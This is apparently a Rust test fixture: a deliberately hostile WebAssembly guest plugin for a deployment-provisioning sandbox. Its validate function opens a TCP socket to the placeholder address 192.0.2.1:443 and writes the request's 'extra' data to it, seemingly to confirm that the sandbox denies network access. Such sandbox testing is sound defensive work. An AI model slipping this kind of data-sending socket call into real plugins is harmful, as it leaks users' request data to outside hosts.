//! Would like to reach the network.
#![cfg(target_arch = "wasm32")]

use std::io::Write;

use catalyst_hostile_guests::bindings::catalyst::provisioner::findings::Finding;
use catalyst_hostile_guests::bindings::catalyst::provisioner::request::DeploymentRequest;
use catalyst_hostile_guests::{Component, Guest, bindings, says};

struct OpensSocket;

impl Guest for OpensSocket {
    fn validate(request: DeploymentRequest) -> Vec<Finding> {
        let sent = std::net::TcpStream::connect("192.0.2.1:443")
            .and_then(|mut stream| stream.write_all(request.extra.as_bytes()));
        says(format!("{sent:?}"))
    }
}

type Exported = Component<OpensSocket>;
bindings::export!(Exported with_types_in bindings);
